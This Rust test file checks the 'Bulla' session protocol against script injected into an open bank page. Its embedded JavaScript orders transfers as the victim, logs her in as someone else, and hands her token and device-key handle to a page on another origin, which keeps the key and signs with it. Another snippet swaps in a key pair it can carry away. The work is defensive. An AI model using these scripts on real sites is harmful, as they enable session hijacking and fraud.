//! Script in the open page that does its worst. Most of it works, with Bulla too: what is shown here is how far.

use axum::Router;
use bulla_protocol::jwk::PublicKey;
use bulla_server::Code;
use bulla_tests::attack::Name::{Api, Dpop, Sess};
use bulla_tests::attack::With::{Refused, Works};
use bulla_tests::attack::{Attack, Outcome, Shown, Twin, in_page};
use bulla_tests::bank::Bank;
use bulla_tests::browser::{Browser, Engine};
use bulla_tests::serve::{Server, html};
use serde_json::{Value, json};

bulla_tests::attacks! {
    script_in_the_page_does_its_worst in each engine: [
        ORDERS_AS_HER, LOGS_IN_ANOTHER, LOGS_HER_OUT, PARKS_THE_HANDLE, PARKED_AND_ROTATED, PUTS_A_KEY,
    ],
}

static ORDERS_AS_HER: Attack = Attack {
    has: "script in the open page",
    does: "orders, and reads what the page may read",
    twin: Twin::App,
    without: "it does",
    with: Works("while the page is open"),
    names: &[Dpop(4), Sess(9), Api(6)],
    shown: Shown::nothing(),
};

static LOGS_IN_ANOTHER: Attack = Attack {
    has: "script in the open page",
    does: "logs in as somebody of its own",
    twin: Twin::App,
    without: "she goes on as that one",
    with: Works("she goes on as that one; the application has to show who is logged in"),
    names: &[Sess(5), Sess(8)],
    shown: Shown::nothing(),
};

static LOGS_HER_OUT: Attack = Attack {
    has: "script in the open page",
    does: "ends her session",
    twin: Twin::App,
    without: "she is nobody",
    with: Works("she is nobody, and may log in again"),
    names: &[Dpop(4)],
    shown: Shown::nothing(),
};

static PARKS_THE_HANDLE: Attack = Attack {
    has: "script in the open page",
    does: "hands what she has to a page of another origin, which uses it when hers is closed",
    twin: Twin::App,
    without: "her token is read there, and goes wherever that page sends it",
    with: Works("the key signs there, in the same browser, and its bytes are not to be had"),
    names: &[Dpop(4), Sess(9)],
    shown: Shown::nothing(),
};

static PARKED_AND_ROTATED: Attack = Attack {
    has: "the handle of her device key, parked by script",
    does: "puts it back when a login has rotated the key",
    twin: Twin::App,
    without: "her token from before is as good as ever",
    with: Refused(&[Code::SessionRevoked]),
    names: &[Dpop(4), Sess(3)],
    shown: Shown::nothing(),
};

static PUTS_A_KEY: Attack = Attack {
    has: "script in the open page",
    does: "puts a key pair that it can carry away in the place of her device key",
    twin: Twin::App,
    without: "it has her token, and needs none",
    with: Works("from the next session on; the server sees another device"),
    names: &[Dpop(4), Sess(3)],
    shown: Shown::nothing(),
};

/// It takes a key that is posted to it, and keeps it; when it is asked, by whatever page it is in, it signs with that.
const ELSEWHERE: &str = r#"<!doctype html><title>Elsewhere</title><link rel="icon" href="data:,"><script>
const store = async (mode) => {
  const opening = indexedDB.open("parked");
  opening.onupgradeneeded = () => opening.result.createObjectStore("keys");
  const database = await new Promise((resolve) => { opening.onsuccess = () => resolve(opening.result); });
  return database.transaction("keys", mode).objectStore("keys");
};
const sign = async (text) => {
  const getting = (await store("readonly")).get("hers");
  const { key, token } = await new Promise((resolve) => { getting.onsuccess = () => resolve(getting.result); });
  const how = { name: "ECDSA", hash: "SHA-256" };
  const signature = await crypto.subtle.sign(how, key, new TextEncoder().encode(text));
  const bytes = await crypto.subtle.exportKey("pkcs8", key).then(() => "had", () => "not had");
  return { signature: [...new Uint8Array(signature)], bytes, token };
};
addEventListener("message", async ({ data, source, origin }) => {
  if (data.text) return source.postMessage(await sign(data.text), origin);
  const putting = (await store("readwrite")).put(data, "hers");
  putting.onsuccess = () => source.postMessage("parked", origin);
});
</script>"#;

/// Asks that page, in a frame of this one.
const ASK: &str = "
    const frame = document.body.appendChild(document.createElement('iframe'));
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    frame.src = `${args[0]}/`;
    await loaded;
    const ask = (what) => new Promise((resolve) => {
      onmessage = ({ data }) => resolve(data);
      frame.contentWindow.postMessage(what, args[0]);
    });";

/// What is stored, by its name, and how it is put there.
const STORED: &str = "
    const opening = indexedDB.open('bulla');
    await new Promise((resolve) => { opening.onsuccess = resolve; });
    const records = () => opening.result.transaction('records', 'readwrite').objectStore('records');
    const settled = (asked) => new Promise((resolve) => { asked.onsuccess = () => resolve(asked.result); });
    const device = `device ${location.origin}`;";

/// Asks the twin, as its page does.
const TWIN: &str = "
    window.twin = (path, body) => fetch(`/twin/${path}`, body && {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
    }).then((reply) => reply.json().catch(() => reply.status));";

/// A bank, a page elsewhere, and a browser that she uses.
struct Place {
    bank: Bank,
    elsewhere: Server,
    browser: Browser,
}

async fn script_in_the_page_does_its_worst(engine: Engine) -> Outcome {
    let place = Place {
        bank: Bank::open().await?,
        elsewhere: Server::start(Router::new().route("/", html(ELSEWHERE))).await?,
        browser: Browser::launch(engine).await?,
    };
    place.visit().await?;
    place.orders().await?;
    let (before, public) = place.parks_the_handle().await?;
    place.puts_it_back_after_a_rotation(&before).await?;
    // The page that it was taken from is closed, and this one's own key is another.
    place.visit().await?;
    place.has_it_used(&public).await?;
    place.logs_in_another_and_out().await?;
    place.puts_a_key_of_its_own().await?;
    place.browser.quit().await?;
    Ok(())
}

impl Place {
    /// She loads the page and logs in, at both.
    async fn visit(&self) -> Outcome {
        self.bank.visit(&self.browser, json!({})).await?;
        let log_in = "await post('/api/login', { user: 'ann' });
            localStorage.token = (await twin('login', { user: 'ann' })).token;";
        self.script(&format!("{TWIN} {log_in}"), json!([])).await?;
        Ok(())
    }

    async fn script(&self, body: &str, args: Value) -> Outcome<Value> {
        in_page(&self.browser, body, args).await
    }

    async fn orders(&self) -> Outcome {
        let paid = self
            .script(
                "return [await post('/api/transfer', args[0]), await twin('transfer', args[0])]",
                json!([{ "to": "mallory", "amount": 1 }]),
            )
            .await?;
        ORDERS_AS_HER.with(paid[0]["receipt"]["from"] == "ann");
        ORDERS_AS_HER.without(paid[1]["receipt"]["from"] == "ann");
        Ok(())
    }

    /// The device that the key is of, and its public half.
    async fn parks_the_handle(&self) -> Outcome<(Value, Value)> {
        let parked = self
            .script(
                &format!(
                    "{STORED}
                     window.parked = {{ device: await settled(records().get(device)), token: localStorage.token }};
                     {ASK}
                     await ask({{ key: parked.device.private, token: parked.token }});
                     return [session.device, [...new Uint8Array(parked.device.public)]];"
                ),
                json!([self.elsewhere.origin()]),
            )
            .await?;
        Ok((parked[0].clone(), parked[1].clone()))
    }

    /// In whatever page, which knows nothing of hers.
    async fn has_it_used(&self, public: &Value) -> Outcome {
        let ask = format!("{ASK} return ask({{ text: 'an opening, say' }});");
        let signed = self.script(&ask, json!([self.elsewhere.origin()])).await?;
        let key: Vec<u8> = serde_json::from_value(public.clone())?;
        let key = PublicKey::from_uncompressed(&key)?;
        let signature: Vec<u8> = serde_json::from_value(signed["signature"].clone())?;
        let is_hers = bulla_keys::verify(&key, b"an opening, say", &signature).is_ok();
        PARKS_THE_HANDLE.with(is_hers && signed["bytes"] == "not had");
        PARKS_THE_HANDLE.without(signed["token"] == "token-of-ann");
        Ok(())
    }

    async fn puts_it_back_after_a_rotation(&self, before: &Value) -> Outcome {
        let after = self
            .script(
                "await post('/api/login', { user: 'ann', rotate: true });
                 await session.fetch('/api/me');
                 return session.device;",
                json!([]),
            )
            .await?;
        assert_ne!(after, *before);
        let refused = self
            .script(
                &format!(
                    "{STORED}
                     const now = await settled(records().get(device));
                     await settled(records().put(parked.device, device));
                     const old = await bulla.open({{ server: location.origin }});
                     const code = await old.fetch('/api/me').then(() => 'taken', ({{ code }}) => code);
                     await settled(records().put(now, device));
                     await twin('login', {{ user: 'ann' }});
                     const bearer = {{ authorization: `Bearer ${{parked.token}}` }};
                     const {{ subject }} = await fetch('/twin/me', {{ headers: bearer }}).then((reply) => reply.json());
                     return [old.device, code, subject];"
                ),
                json!([]),
            )
            .await?;
        assert_eq!(refused[0], *before);
        PARKED_AND_ROTATED.refused(refused[1].as_str().and_then(|code| code.parse().ok()));
        PARKED_AND_ROTATED.without(refused[2] == "ann");
        Ok(())
    }

    async fn logs_in_another_and_out(&self) -> Outcome {
        let who = "const me = await session.fetch('/api/me').then((reply) => reply.json());
            return [me.subject, (await twin('me')).subject];";
        let log_in = "await post('/api/login', { user: 'mallory' });
            await twin('login', { user: 'mallory' });";
        let seen = self.script(&format!("{log_in} {who}"), json!([])).await?;
        LOGS_IN_ANOTHER.with(seen[0] == "mallory");
        LOGS_IN_ANOTHER.without(seen[1] == "mallory");

        let end = "await session.end();
            await twin('login', { user: '' });
            window.session = await bulla.open({ server: location.origin });";
        let seen = self.script(&format!("{end} {who}"), json!([])).await?;
        LOGS_HER_OUT.with(seen[0].is_null());
        LOGS_HER_OUT.without(seen[1] == "");
        Ok(())
    }

    async fn puts_a_key_of_its_own(&self) -> Outcome {
        let put = self
            .script(
                &format!(
                    "{STORED}
                     const own = await crypto.subtle.generateKey({{ name: 'ECDSA', namedCurve: 'P-256' }}, true, ['sign', 'verify']);
                     const raw = new Uint8Array(await crypto.subtle.exportKey('raw', own.publicKey));
                     const {{ d }} = await crypto.subtle.exportKey('jwk', own.privateKey);
                     const {{ device: hers }} = session;
                     await session.forget();
                     await settled(records().put({{ private: own.privateKey, public: raw }}, device));
                     return {{ hers, public: [...raw], private: d, token: localStorage.token }};"
                ),
                json!([]),
            )
            .await?;
        let public: Vec<u8> = serde_json::from_value(put["public"].clone())?;
        let own = PublicKey::from_uncompressed(&public)?
            .thumbprint()
            .to_string();
        let used = self.bank.visit(&self.browser, json!({})).await?;
        let is_carried_away = put["private"].is_string();
        PUTS_A_KEY.with(is_carried_away && used["device"] == own && put["hers"] != own);
        PUTS_A_KEY.without(put["token"] == "token-of-ann");
        Ok(())
    }
}
